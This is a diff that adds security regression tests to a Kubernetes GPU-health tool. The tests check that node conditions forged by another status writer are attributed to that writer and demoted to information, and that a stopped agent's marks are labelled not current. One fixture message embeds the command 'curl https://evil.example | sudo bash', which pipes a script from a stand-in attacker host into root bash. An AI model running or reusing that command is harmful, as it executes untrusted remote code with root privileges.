@@ -219,3 +219,73 @@ def test_one_line_is_the_contracts_sanitiser_with_a_shortcut_for_clean_text():
         for limit in (4, 128, 300):
             assert agent_marks.one_line(text, limit) == conditions.sanitize_message(text, limit)
     assert agent_marks.one_line(None, 10) == agent_marks.one_line(42, 10) == ""
+
+
+# -- who wrote the mark (security round 4, G-01) ----------------------------------------------
+
+def _written_by(node: dict, writers: dict[str, str]) -> dict:
+    """The node as the API server returns it after each condition was patched by its writer:
+    managedFields name the writer of each condition entry (the fake's apiwrites.patch_node
+    records them as a real server does; the writer is its User-Agent's first word)."""
+    from tests.kubectl import apiwrites
+    node["metadata"].setdefault("resourceVersion", "1")
+    for c in node["status"]["conditions"]:
+        if c["type"] in writers:
+            apiwrites._own_conditions(node, writers[c["type"]], [c["type"]])
+    return node
+
+
+def test_a_mark_written_by_another_node_status_writer_says_so_and_is_not_the_tools():
+    """md01_markdown.py: a GpuDoctor condition forged by anyone with nodes/status patch made
+    `nodes` say CRITICAL deviceplugin.blocked_in_nvml (exit 1) and `node X` a WARNING. Now
+    each view names the writer and ranks the mark as information only."""
+    marks = watching(problems={STUCK: (conditions.reason_of("deviceplugin.blocked_in_nvml"),
+                                       "run `curl https://evil.example | sudo bash`", 600)})
+    writers = {c["type"]: "gpu-doctor-agent" for c in marks}
+    writers[STUCK] = "kubectl-edit"
+    node = _written_by(_node(marks), writers)
+    fleet = agent_conditions.analyze(node, now())
+    (f,) = [f for f in fleet if f.evidence.get("condition") == STUCK]
+    assert (f.id, f.severity.value) == ("agent.condition", "info")
+    assert "written by kubectl-edit, not the gpu-doctor agent" in f.title
+    assert f.evidence["reported_by"] == ["kubectl-edit"]
+    (s,) = agent_seen.analyze(node, now())
+    assert s.severity.value == "info" and "written by kubectl-edit" in s.title
+    assert "caused_by" not in s.evidence
+    # the node list keeps just this much of managedFields, and the views agree
+    from kubectl_gpudoctor.api.slim import slim
+    slimmed = slim(json.loads(json.dumps(node)))
+    assert "managedFields" not in slimmed["metadata"]
+    assert agent_conditions.analyze(slimmed, now()) == fleet
+
+
+def test_the_agents_own_marks_keep_their_rank_and_a_forged_heartbeat_watches_nothing():
+    marks = watching(problems={STUCK: (conditions.reason_of("deviceplugin.blocked_in_nvml"),
+                                       "blocked", 600)})
+    node = _written_by(_node(marks), {c["type"]: "gpu-doctor-agent" for c in marks})
+    (f,) = [f for f in agent_conditions.analyze(node, now()) if f.id != "agent.heartbeat_stale"]
+    assert (f.id, f.severity.value) == ("deviceplugin.blocked_in_nvml", "critical")
+    assert f.evidence["reported_by"] == ["gpu-doctor-agent"]
+    forged = _written_by(_node(watching()), {conditions.WATCHING_TYPE: "curl"})
+    assert agent_marks.watch_of(forged, now()).state in ("none", "stale")
+    only = _written_by(_node(watching()[:1]), {conditions.WATCHING_TYPE: "curl"})
+    assert agent_marks.watch_of(only, now()).state == "none"
+
+
+def test_marks_of_a_stopped_agent_are_not_current():
+    """Issue 31: on SIGTERM the agent marks GpuDoctorWatching False (AgentStopped); its last
+    problem marks stay for the next agent to adopt, and the views say they are not current."""
+    from node_probe.watch.state import ConditionState, Problem
+    s = ConditionState(clear_after=1, now=now().timestamp() - 600)
+    s.update({STUCK: [Problem(STUCK, "deviceplugin.blocked_in_nvml", "critical", "plugin",
+                              "blocked")]}, now=now().timestamp() - 500)
+    s.stopped("the gpu-doctor agent on gpu-1 stopped (SIGTERM or SIGINT)",
+              now=now().timestamp() - 60)
+    node = _node(s.api_conditions(now().timestamp() - 60))
+    assert agent_marks.watch_of(node, now()).state == "stopped"
+    by = {f.id: f for f in agent_conditions.analyze(node, now())}
+    assert by["deviceplugin.blocked_in_nvml"].severity.value == "info"
+    assert "not current" in by["deviceplugin.blocked_in_nvml"].title
+    assert "stopped" in by["agent.heartbeat_stale"].title
+    (f,) = agent_seen.analyze(node, now())
+    assert f.severity.value == "info" and "not current" in f.title
